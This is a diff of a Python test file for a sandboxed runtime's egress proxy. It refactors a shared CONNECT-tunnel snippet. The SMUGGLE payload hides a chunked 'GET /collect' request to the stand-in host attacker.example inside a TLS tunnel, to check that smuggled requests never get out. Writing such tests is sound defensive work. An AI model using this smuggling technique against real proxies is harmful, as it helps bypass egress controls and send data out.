@@ -477,13 +477,19 @@ def test_no_reply_trick_gets_the_value_into_the_isolate(up: Upstreams, manager: 
     assert all(s["accept-encoding"] == "identity" for s in seen)
 
 
-SMUGGLE = r"""
-import os, socket, ssl
+# Inside the isolate: a tunnel opened through the proxy by hand (``s``, its answer's head in ``head``).
+CONNECT = r"""
+import os, socket, ssl, time
 s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
-s.sendall(b"CONNECT api.stockade.test:{port} HTTP/1.1\r\nHost: api.stockade.test\r\n\r\n")
+s.sendall(b"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
 head = b""
 while b"\r\n\r\n" not in head:
     head += s.recv(4096)
+"""
+
+SMUGGLE = (
+    CONNECT.replace("{target}", "api.stockade.test:{port}")
+    + r"""
 t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname="api.stockade.test")
 inner = b"GET /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n"
 body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
@@ -494,6 +500,7 @@ while chunk := t.recv(65536):
     reply += chunk
 print(reply.split(b"\r\n", 1)[0].decode())
 """
+)
 
 
 def test_a_request_framed_two_ways_never_reaches_a_bound_host(up: Upstreams, manager: RuntimeManager) -> None:
@@ -781,13 +788,9 @@ def test_the_next_run_waits_for_the_last_ones_account(
     assert result.violation_counts == {"network_egress": 1}  # type: ignore[attr-defined]
 
 
-TUNNEL = r"""
-import os, socket, sys, time
-s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
-s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
-head = b""
-while b"\r\n\r\n" not in head:
-    head += s.recv(4096)
+TUNNEL = (
+    CONNECT.replace("{target}", "127.0.0.1:{port}")
+    + r"""
 assert head.startswith(b"HTTP/1.1 200"), head
 s.sendall(b"x" * {first})
 if {hold}:
@@ -796,6 +799,7 @@ if {hold}:
     s.sendall(b"y" * {later})
 s.close()
 """
+)
 
 
 def test_a_tunnels_bytes_are_charged_to_the_run_that_moved_them(manager: RuntimeManager) -> None:
